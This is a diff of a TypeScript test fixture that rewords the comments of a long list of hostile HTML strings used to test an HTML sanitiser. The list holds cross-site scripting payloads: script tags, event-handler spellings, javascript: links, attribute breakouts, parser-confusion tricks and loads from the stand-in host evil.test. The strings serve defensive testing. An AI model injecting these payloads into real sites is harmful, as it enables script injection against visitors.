@@ -1,15 +1,13 @@
-/** What a script of an attacker does: the tests see whether it ran. */
+/** Script of an attacker; tests detect if it ran. */
 const run = 'window.hit=1';
-/** Runs it, in the way that most of these do. */
 const img = `<img src=x onerror=${run}>`;
 const script = `<script>${run}</script>`;
 
 /**
- * HTML that runs a script, takes the visitor elsewhere, loads from elsewhere, or does so once it has been through a parser
- * twice. Old browsers' own tricks are among it: what the sanitiser lets pass is not a matter of today's.
+ * HTML that runs a script, navigates away or loads from elsewhere, directly or after being parsed twice. Includes
+ * exploits of old browsers: the sanitiser must remove them as well.
  */
 export const hostileHtml: readonly string[] = [
-  // Scripts.
   script,
   `<SCRIPT>${run}</SCRIPT>`,
   `<script src=//evil.test/x.js></script>`,
@@ -24,7 +22,7 @@ export const hostileHtml: readonly string[] = [
   `<noscript>${script}</noscript>`,
   `<script>/*</script>*/${run}/*</script>`,
   `<script><!--<script></script>${run}</script>`,
-  // Handlers of events, in all spellings.
+  // Event handlers in all spellings.
   img,
   `<IMG SRC=x OnErRoR="${run}">`,
   `<img src=x onerror\n=\n'${run}'>`,
@@ -60,7 +58,7 @@ export const hostileHtml: readonly string[] = [
   `<table background="javascript:${run}"><tr><td onclick=${run} background="javascript:${run}">a</td></tr></table>`,
   `<isindex type=image src=x onerror=${run}>`,
   `<b ${'x '.repeat(300)}onclick=${run}>press</b>`,
-  // Out of an attribute.
+  // Breaking out of an attribute.
   `<a href="/a" title="${'"'}onmouseover=${run} x="">hover</a>`,
   `<img alt="&quot;onerror=${run} x=&quot;" src=x>`,
   `<img alt='" onerror="${run}' src=x>`,
@@ -78,7 +76,7 @@ export const hostileHtml: readonly string[] = [
   `&amp;lt;img src=x onerror=${run}&amp;gt;`,
   `\u003cimg src=x onerror=${run}\u003e`,
   `＜img src=x onerror=${run}＞`,
-  // Links that are scripts.
+  // Script links.
   `<a href="javascript:${run}">press</a>`,
   `<a href=JaVaScRiPt:${run}>press</a>`,
   `<a href=" &#14; javascript:${run}">press</a>`,
@@ -101,7 +99,7 @@ export const hostileHtml: readonly string[] = [
   `<a href="/a" ping="https://evil.test/ping">press</a>`,
   `<a href="javascript:${run}" download>press</a>`,
   `<area href="javascript:${run}"><map name=m><area shape=default href="javascript:${run}"></map><img usemap=#m src=/pixel.gif>`,
-  // Frames, forms, and what changes the document.
+  // Frames, forms and elements that affect the document.
   `<iframe src="javascript:parent.${run}"></iframe>`,
   `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
   `<iframe src="https://www.youtube.com/embed/a" srcdoc="<script>parent.${run}</script>"></iframe>`,
@@ -126,9 +124,8 @@ export const hostileHtml: readonly string[] = [
   `<link rel=import href="https://evil.test/x.html"><link rel=prefetch href="https://evil.test/">`,
   `<dialog open><form method=dialog><button onclick=${run}>press</button></form></dialog>`,
   `<b id=hit popover>a</b><button popovertarget=hit onbeforetoggle=${run}>press</button>`,
-  // Names that scripts look for.
+  // DOM clobbering.
   `<a id=hit name=hit href="/a">press</a><img name=body src=/pixel.gif><form id=root></form>`,
-  // Style sheets.
   `<style>@import "https://evil.test/x.css";</style>`,
   `<style>*{background:url(https://evil.test/x.png)}</style>`,
   `<p style="background:url(https://evil.test/x.png)">a</p>`,
@@ -136,7 +133,7 @@ export const hostileHtml: readonly string[] = [
   `<p style="width:expression(${run})">a</p>`,
   `<p style="behavior:url(x.htc);-moz-binding:url(x.xml#a)">a</p>`,
   `<p style="position:fixed;inset:0;z-index:9">a</p>`,
-  // Other languages inside HTML, and what their parsers make of it.
+  // Foreign content and parser differences.
   `<svg onload=${run}></svg>`,
   `<svg/onload=${run}>`,
   `<svg><script>${run}</script></svg>`,
@@ -173,7 +170,7 @@ export const hostileHtml: readonly string[] = [
   `<select><style></select>${img}</style></select>`,
   `<p><table><td><p></table>${img}`,
   `<table><td>${img}</table><a><table><td></a>${img}`,
-  // Comments, and what is none.
+  // Comments and malformed comments.
   `<!--><script>${run}</script>-->`,
   `<!--<img src="--><img src=x onerror=${run}>">`,
   `<!-- --!><img src=x onerror=${run}> -->`,
@@ -190,7 +187,7 @@ export const hostileHtml: readonly string[] = [
   `<a<b onclick=${run}>press</a>`,
   `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
   `<custom-element onclick=${run} tabindex=0>press</custom-element>`,
-  // What the article's own markup is made of.
+  // Markup of our own articles.
   `<div data-embed="https://evil.test/" data-title="a">a</div>`,
   `<div data-embed="javascript:${run}"><button>press</button></div>`,
   `<button type="button" data-embed="javascript:${run}">press</button>`,
